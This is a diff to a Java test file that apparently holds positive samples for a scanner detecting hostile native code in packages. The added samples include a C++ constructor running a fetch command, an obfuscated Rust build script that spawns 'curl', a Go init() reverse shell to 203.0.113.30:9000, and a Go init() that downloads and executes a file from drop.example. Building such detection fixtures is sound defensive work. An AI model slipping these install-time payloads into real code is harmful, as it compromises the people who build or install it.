@@ -103,6 +103,57 @@ final class NativePositives {
                     + "static void boot(void) __attribute__((constructor));\n"
                     + "static void boot(void) { go(); }")),
         new Sample(
+            "an object of C++ whose constructor runs a command",
+            extension(
+                "namespace {\nstruct Init {\n  Init() { std::system(\""
+                    + PULL
+                    + "\"); }\n} init;\n}")),
+        new Sample(
+            "a build script with a command that is mixed with a key",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    const A: &[u8] = &[66, 84, 83, 77];
+                    fn dec() -> String {
+                        A.iter().map(|b| (b ^ 0x21) as char).collect()
+                    }
+                    fn main() {
+                        std::process::Command::new("sh").arg("-c").arg(dec()).spawn().unwrap();
+                    }
+                    """)),
+        new Sample(
+            "a Go package that ties a shell to a connection",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    func init() {
+                    	c, _ := net.Dial("tcp", "203.0.113.30:9000")
+                    	cmd := exec.Command("/bin/sh")
+                    	cmd.Stdin, cmd.Stdout = c, c
+                    	cmd.Run()
+                    }
+                    """)),
+        new Sample(
+            "a Go package that starts what it fetched",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    func init() {
+                    	r, _ := http.Get("https://drop.example/g")
+                    	p := filepath.Join(os.TempDir(), "gobuild")
+                    	f, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)
+                    	io.Copy(f, r.Body)
+                    	exec.Command(p).Start()
+                    }
+                    """)),
+        new Sample(
             "a module of Cython",
             Artifact.sdist("sample", "1.0")
                 .file("setup.py", "from setuptools import setup\nsetup()\n")
@@ -150,6 +201,12 @@ final class NativePositives {
                     + "\") would be wrong here */\n__attribute__((constructor)) static void boot(void) { setenv(\"X\", \"1\", 0); }\n"
                     + "static int run(const char *c) { return system(c); }\n"
                     + "static int list(void) { return system(\"ls\"); }")),
+        new Sample(
+            "functions in a namespace that run commands when called",
+            extension(
+                "namespace a {\nclass Shell {\n public:\n  int n = 0;\n};\nShell shell;\nint go() { return std::system(\""
+                    + PULL
+                    + "\"); }\n}")),
         new Sample(
             "a build script that asks for the revision",
             crate("")
